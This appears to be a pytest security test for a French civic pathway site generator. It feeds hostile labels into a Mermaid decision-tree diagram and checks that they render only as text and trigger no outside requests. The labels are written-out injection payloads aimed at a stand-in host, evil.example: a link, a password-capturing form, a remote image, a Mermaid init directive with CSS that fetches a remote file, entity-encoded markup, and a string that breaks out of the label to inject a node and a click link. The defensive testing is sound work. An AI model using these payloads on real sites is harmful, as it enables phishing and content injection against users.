"""A site built from hostile records: markup, Mermaid directives and entity codes in a
pathway's labels draw as text in the « Tout le parcours » diagram, and nothing on the page
asks anything of another site."""

from __future__ import annotations

from pathlib import Path

import pytest
import yaml

from conftest import VAL_ESSAI, build, copy_territory, make_project

EVIL = "https://evil.example"
# Labels that broke out of Material's Mermaid (HTML labels): a link, a password form, an
# image, a directive that restyles the diagram and fetches a file, entity codes that
# Mermaid turns into markup, a Markdown string, and an attempt to end the label.
HOSTILE_LABELS = [
    f'<a href="{EVIL}/piege">Cliquez ici</a>',
    f'<form action="{EVIL}/vol"><input type="password" name="mdp"></form>',
    f'<img src="{EVIL}/image.png">',
    '%%{init: {"themeCSS": "svg { background: url(' + EVIL + '/fond.png) }"}}%%',
    f"#60;img src={EVIL}/entite.png#62;",
    "`**gras** <b>html</b>`",
    f'"] --> n99["injecté"] click n1 href "{EVIL}"',
]
PATHWAY_ID = "parcours-hostile"


def hostile_pathway() -> str:
    questions = [
        {
            "id": f"q{n}",
            "question": label,
            "choix": [
                {"reponse": label, "suite": f"q{n + 1}" if n + 1 < len(HOSTILE_LABELS) else "fin"},
                {"reponse": "Non", "suite": "fin"},
            ],
        }
        for n, label in enumerate(HOSTILE_LABELS)
    ]
    record = {
        "id": PATHWAY_ID,
        "titre": "Un parcours aux libellés hostiles",
        "pour": "habitants",
        "resume": "Chaque libellé essaie de devenir du code dans le schéma.",
        "debut": "q0",
        "questions": questions,
        "resultats": [
            {
                "id": "fin",
                "titre": HOSTILE_LABELS[0],
                "conseil": "Rien.",
                "services": ["Aide aux démarches administratives"],
            }
        ],
    }
    return yaml.safe_dump(record, allow_unicode=True, sort_keys=False)


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory) -> Path:
    root = tmp_path_factory.mktemp("hostile")
    copy_territory(VAL_ESSAI, root / "data")
    (root / "data" / "pathways" / f"{PATHWAY_ID}.yml").write_text(
        hostile_pathway(), encoding="utf-8"
    )
    make_project(root)
    result = build(root)
    assert result.returncode == 0, result.stdout + result.stderr
    return root / "site"


def test_hostile_labels_draw_as_text_and_ask_nothing_of_another_site(hostile_site, open_page):
    from browser import serve

    requests: list[str] = []
    with serve(hostile_site) as base_url:
        page = open_page(
            f"{base_url}parcours/{PATHWAY_ID}/arbre/",
            settled=True,
            on_request=lambda request: requests.append(request.url),
        )
        page.wait_for_selector(".hf-diagram-drawn svg")
        diagram = page.locator(".hf-diagram")
        for tag in ("a", "form", "input", "img", "image", "foreignObject", "iframe", "script"):
            assert diagram.locator(tag).count() == 0, tag
        styles = " ".join(diagram.locator("style").all_text_contents())
        assert "evil" not in styles  # the directive changed nothing
        texts = " ".join(
            page.eval_on_selector_all(
                ".hf-diagram-drawn text", "els => els.map(e => e.textContent)"
            )
        )
        assert "Cliquez ici" in texts and "<a" in texts  # the markup shows as typed
        # One node per question and outcome: the label that tried to add a node stayed text.
        assert page.locator(".hf-diagram-drawn g.node").count() == len(HOSTILE_LABELS) + 1
        assert "n99[”injecté”]" in texts
        assert [url for url in requests if not url.startswith(base_url)] == []
        # Without JavaScript, the page shows the pathway as text: the same labels, escaped.
        page = open_page(f"{base_url}parcours/{PATHWAY_ID}/arbre/", javascript=False)
        assert (
            page.locator(".hf-outline img, .hf-outline form, .hf-outline a[href^=http]").count()
            == 0
        )
        assert "Cliquez ici" in page.text_content(".hf-outline")
